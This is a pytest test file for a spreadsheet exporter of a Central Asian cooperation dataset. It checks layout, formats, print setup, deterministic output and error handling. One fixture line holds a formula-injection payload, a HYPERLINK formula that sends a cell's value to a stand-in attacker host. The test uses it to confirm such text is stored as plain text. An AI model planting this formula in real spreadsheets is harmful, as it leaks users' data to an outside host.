"""scripts/xlsx/write/export.py: what the workbook holds for its readers (Read me first, named fonts, one
boolean convention, formats by unit, dropdowns over whole columns, ISBLANK highlighting, print
setup, worded chart), what it refuses, and that two exports are byte-identical."""

from __future__ import annotations

import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from scripts.model.meta import citation_text, package_meta
from scripts.model.package import csv_text, load_package, read_rows
from scripts.xlsx.read.importer import import_workbook
from scripts.xlsx.state import STATE_SHEET, fingerprint
from scripts.xlsx.write.export import ExportError, export_workbook
from scripts.xlsx.write.guide import README_SHEET
from scripts.xlsx.write.printing import MIN_SCALE, fit_scale, key_columns
from scripts.xlsx.write.styles import figure_text
from tests.unit.xlsx_support import ROOT, column_of, copy_package, export, row_of


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return export(ROOT, tmp_path_factory.mktemp("export") / "package.xlsx")


@pytest.fixture(scope="module")
def wb(exported: Path):
    return openpyxl.load_workbook(exported)


def _parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith((".xml", ".rels"))}


def test_two_exports_are_byte_identical(exported, tmp_path):
    again = export(ROOT, tmp_path / "again.xlsx")
    assert again.read_bytes() == exported.read_bytes()


def test_read_me_comes_first_then_fields_tables_chart_and_hidden_helpers(wb):
    package = load_package(ROOT)
    assert wb.sheetnames == [README_SHEET, "fields", *package.tables, "trade_chart", STATE_SHEET]
    assert wb[STATE_SHEET].sheet_state == "hidden"
    assert [wb[n].sheet_state for n in package.tables] == ["visible"] * len(package.tables)


def test_read_me_explains_the_data_in_words(wb):
    text = "\n".join(str(c.value) for row in wb[README_SHEET].iter_rows() for c in row if c.value is not None)
    for words in ("is_..._inferred", "inference_note", "true and false", "disagreement", "How to cite",
                  "Where the sources are", "2024-08", "billion USD", "src-000", "held"):
        assert words in text, words
    assert "/work" not in text and "tables/" not in text and ".csv" not in text


def test_read_me_says_truthfully_that_the_sources_are_not_distributed(wb):
    """The README says the source texts are not redistributed; the Read me sheet must not claim
    they are "published with the dataset"."""
    cells = [str(c.value) for row in wb[README_SHEET].iter_rows() for c in row if c.value is not None]
    where = cells[cells.index("Where the sources are") + 1]
    assert "not distributed with the dataset" in where and "published with" not in where


def test_read_me_cites_the_data_in_the_words_of_the_site_and_the_database(wb):
    """One citation everywhere: the Read me sheet's is :func:`citation_text` of the package's
    release record (it parsed CITATION.cff, a file generated from the same record, on its own)."""
    cells = [str(c.value) for row in wb[README_SHEET].iter_rows() for c in row if c.value is not None]
    cited = cells[cells.index("How to cite") + 1]
    assert cited == citation_text(package_meta(load_package(ROOT)))
    assert cited.startswith("Central Asia Cooperation Dataset maintainers (2026). Central Asian Regional Cooperation")
    assert "[Data set]. Creative Commons Attribution 4.0. https://" in cited


def test_no_internal_path_shown_anywhere(exported):
    parts = _parts(exported)
    assert not any(str(ROOT) in xml for xml in parts.values())
    shown = [t for xml in parts.values() for t in re.findall(r"<(?:t|a:t)(?: [^>]*)?>([^<]*)<", xml)]
    assert len(shown) > 1000
    assert not [t for t in shown if re.search(r"(tables|schemas)/|\.csv\b|\.json\b|/work/", t)]


def test_every_font_is_named(exported):
    styles = _parts(exported)["xl/styles.xml"]
    fonts = re.findall(r"<font>.*?</font>|<font/>", re.search(r"<fonts[^>]*>(.*)</fonts>", styles).group(1))
    assert fonts and all('<name val="Calibri"/>' in f for f in fonts)


def test_booleans_are_the_schema_words_as_text(wb):
    ws = wb["meetings"]
    column = column_of(ws, "is_ordinal_inferred")
    values = {ws.cell(r, column).value for r in range(2, ws.max_row + 1)}
    assert values == {"true", "false"}
    rule = next(dv for dv in ws.data_validations.dataValidation if str(dv.sqref).startswith(ws.cell(2, column)
                                                                                           .column_letter))
    assert rule.formula1 == '"true,false"'


def test_number_formats_follow_the_unit(wb):
    ws = wb["indicators"]
    value = column_of(ws, "value")
    formats = {ws.cell(r, column_of(ws, "observation_id")).value: ws.cell(r, value).number_format
               for r in range(2, ws.max_row + 1)}
    assert formats["trains-dispatched-chn-2024-12-01-src-002"] == "#,##0"
    assert formats["intraregional-trade-region-2023-src-000"] == '#,##0" billion USD"'
    assert formats["bilateral-trade-kaz-chn-2024-01-2024-10-src-002"] == '#,##0.0##" billion USD"'
    assert formats["bilateral-trade-growth-kaz-chn-2024-01-2024-10-src-002"] == '#,##0"%"'
    assert ws.cell(row_of(ws, "trains-dispatched-chn-2024-12-01-src-002"), value).value == int(
        ws.cell(row_of(ws, "trains-dispatched-chn-2024-12-01-src-002"), value).value)


def test_dropdowns_cover_the_whole_column_and_keys_grow_with_the_lookup(wb):
    ws = wb["meetings"]
    host = ws.cell(1, column_of(ws, "host_state_id")).column_letter
    rules = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    assert rules[f"{host}2:{host}1048576"] == "keys_states_state_id"
    assert wb.defined_names["keys_states_state_id"].attr_text == (
        "OFFSET('states'!$A$2,0,0,MAX(1,COUNTA('states'!$A:$A)-1),1)")


def test_required_cells_are_highlighted_with_isblank(exported):
    sheets = [xml for name, xml in _parts(exported).items() if name.startswith("xl/worksheets/sheet")]
    formulas = [f for xml in sheets for f in re.findall(r"<formula>(.*?)</formula>", xml)]
    assert any(f.startswith("ISBLANK(") for f in formulas)
    assert not any("LEN(" in f for f in formulas)


def test_sheets_fit_the_page_width_only_while_the_text_stays_readable(wb):
    """Narrow sheets print one page wide; wide ones at 75 % across pages, rows first, with the
    header row and the key column(s) on every page. Every sheet prints landscape with its name
    and page number in the footer."""
    fitted, across = [], {}
    for name in [README_SHEET, "fields", *load_package(ROOT).tables, "trade_chart"]:
        ws = wb[name]
        assert ws.page_setup.orientation == "landscape"
        assert (ws.oddFooter.left.text, ws.oddFooter.right.text) == ("&A", "Page &P of &N")
        if ws.sheet_properties.pageSetUpPr.fitToPage:
            assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
            fitted.append(name)
        else:
            assert (ws.page_setup.scale, ws.page_setup.pageOrder) == (MIN_SCALE, "overThenDown")
            across[name] = ws.print_title_cols
        if name not in (README_SHEET, "trade_chart"):
            assert ws.print_title_rows == "$1:$1"
    assert fitted == [README_SHEET, "source_organizations", "states", "offices", "persons", "format_partners",
                      "topics", "meeting_topics", "project_states", "trade_chart"]
    assert across["meetings"] == across["indicators"] == "$A:$A"
    assert (across["fields"], across["memberships"], across["attendance"]) == ("$A:$B", "$A:$B", "$A:$C")


def test_printing_rule_fits_while_the_text_stays_at_75_percent():
    assert fit_scale([40, 40, 20]) == 1.0
    assert round(fit_scale([100, 46]) * 100) == MIN_SCALE  # 146 characters × 7 points fill 770 points at 75 %
    assert fit_scale([100, 60]) * 100 < MIN_SCALE
    assert key_columns([30, 20, 40, 10], leading_keys=3) == 2  # the third would take more than half a page
    assert key_columns([120, 5], leading_keys=2) == 0


def test_figure_columns_are_as_wide_as_the_figure_with_its_unit(wb):
    """The value column holds "36.5 billion USD", not just "36.5": a column sized on the bare
    number prints the figure as ### in LibreOffice."""
    ws = wb["indicators"]
    value = ws.cell(1, column_of(ws, "value")).column_letter
    assert figure_text("36.5", "USD", "billion") == "36.5 billion USD"
    assert (figure_text("5000", "count", "one"), figure_text("11", "percent", "one")) == ("5,000", "11%")
    assert ws.column_dimensions[value].width == len("36.5 billion USD") + 2  # the widest, and a margin of two


def test_chart_is_titled_in_words_and_targets_stand_apart(wb, exported):
    ws = wb["trade_chart"]
    chart_xml = next(xml for name, xml in _parts(exported).items() if name.startswith("xl/charts/chart"))
    titles = re.findall(r"<a:t>(.*?)</a:t>", chart_xml)
    assert titles[0] == "Trade among the Central Asian states (billion USD)"
    assert not any("_" in t for t in titles)
    labels = [ws.cell(r, 1).value for r in range(1, ws.max_row + 1)]
    series_end = labels.index(None, 3)
    targets_at = labels.index("Stated targets (billion USD)")
    assert targets_at > series_end
    assert all("target" not in str(ws.cell(r, 4).value) for r in range(4, series_end + 1))
    assert any("target" in str(ws.cell(r, 4).value) for r in range(targets_at + 1, ws.max_row + 1))


def test_fingerprint_of_the_tables_is_recorded(wb):
    assert [wb[STATE_SHEET]["A1"].value, wb[STATE_SHEET]["B1"].value] == ["fingerprint",
                                                                           fingerprint(load_package(ROOT))]


def test_literal_escape_text_is_escaped_in_the_file(tmp_path):
    pkg = copy_package(tmp_path / "pkg")
    states = pkg / "tables" / "states.csv"
    states.write_text(states.read_text(encoding="utf-8").replace("Azerbaijan", "Azer _x0041_"), encoding="utf-8")
    dest = export(pkg, tmp_path / "w.xlsx")
    assert "Azer _x005F_x0041_" in "".join(_parts(dest).values())


def test_control_character_is_refused_and_nothing_written(tmp_path):
    pkg = copy_package(tmp_path / "pkg")
    states = pkg / "tables" / "states.csv"
    states.write_text(states.read_text(encoding="utf-8").replace("Azerbaijan", "Azer\x1bbaijan"), encoding="utf-8")
    dest = tmp_path / "w.xlsx"
    with pytest.raises(ExportError, match=r"^states.csv row 2, field name: the value .*U\+001B"):
        export_workbook(load_package(pkg), dest)
    assert not dest.exists() and list(tmp_path.glob(".*tmp*")) == []


FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+7 701 000 00 00", "-5 degrees",
                "@mention"]


def _with_formula_like_texts(tmp_path: Path) -> Path:
    """A package whose first topics' descriptions start as a spreadsheet formula would."""
    pkg = copy_package(tmp_path / "pkg")
    table = load_package(pkg).table("topics")
    rows = read_rows(table)
    for row, text in zip(rows, FORMULA_LIKE, strict=False):
        row["description"] = text
    table.path.write_text(csv_text(table, rows), encoding="utf-8")
    return pkg


def test_text_that_looks_like_a_formula_is_exported_as_text_and_reads_back_unchanged(tmp_path):
    """Text is always an inline string: a cell starting with =, +, - or @ is never a formula in the
    workbook, and the import reads it back as the same text (no table changes)."""
    pkg = _with_formula_like_texts(tmp_path)
    dest = export(pkg, tmp_path / "w.xlsx")
    sheet = next(xml for xml in _parts(dest).values() if "<t>@mention</t>" in xml)
    assert "<f>" not in sheet and "<f " not in sheet
    ws = openpyxl.load_workbook(dest)["topics"]
    column = column_of(ws, "description")
    cells = [ws.cell(r, column) for r in range(2, 2 + len(FORMULA_LIKE))]
    assert [(c.value, c.data_type) for c in cells] == [(text, "s") for text in FORMULA_LIKE]
    before = (pkg / "tables" / "topics.csv").read_bytes()
    result = import_workbook(pkg, dest, None)
    assert (result.problems, result.changed) == ([], [])
    assert (pkg / "tables" / "topics.csv").read_bytes() == before


def _run_export(pkg: Path, dest: Path, inject: str = "") -> subprocess.CompletedProcess[str]:
    """``python -m scripts export`` in a fresh interpreter (tracebacks of objects collected after
    the error line reach the real stderr only), optionally with a fault injected first; prints
    the temporary files openpyxl still holds at the end."""
    code = (f"import sys; sys.path.insert(0, {str(ROOT)!r})\n{inject}\n"
            "from openpyxl.worksheet._writer import ALL_TEMP_FILES\nfrom scripts.cli import main\n"
            f"code = main(['export', {str(pkg)!r}, '--output', {str(dest)!r}])\n"
            "import gc; gc.collect(); print(len(ALL_TEMP_FILES)); sys.exit(code)")
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300, cwd=ROOT)


def test_an_export_failing_after_its_sheets_exist_prints_one_line(tmp_path):
    """A control character in a field's description fails the export once sheets exist: before,
    every open sheet printed two tracebacks after the one error line."""
    pkg = copy_package(tmp_path / "pkg")
    schema = pkg / "schemas" / "topics.json"
    schema.write_text(schema.read_text(encoding="utf-8").replace('"description": "', '"description": "\\u0001', 1),
                      encoding="utf-8")
    done = _run_export(pkg, tmp_path / "w.xlsx")
    assert (done.returncode, done.stderr.splitlines()) == (
        1, ["error: datapackage.json or a schema: a title or description holds a control character"])
    assert done.stdout.split() == ["0"] and not (tmp_path / "w.xlsx").exists()


def test_a_failure_after_every_sheet_is_created_prints_one_line(tmp_path):
    """A write that fails after the last sheet (here the disk, injected): one line, exit 2, and
    no temporary sheet file left behind."""
    inject = ("import errno, scripts.xlsx.write.export as export\n"
              "def full(*args): raise OSError(errno.ENOSPC, 'No space left on device')\n"
              "export._write_state = full")
    done = _run_export(copy_package(tmp_path / "pkg"), tmp_path / "w.xlsx", inject)
    assert (done.returncode, done.stderr.splitlines()) == (
        2, ["error: file system error: the disk is full (free some space and run the command again)"])
    assert done.stdout.split() == ["0"] and not (tmp_path / "w.xlsx").exists()
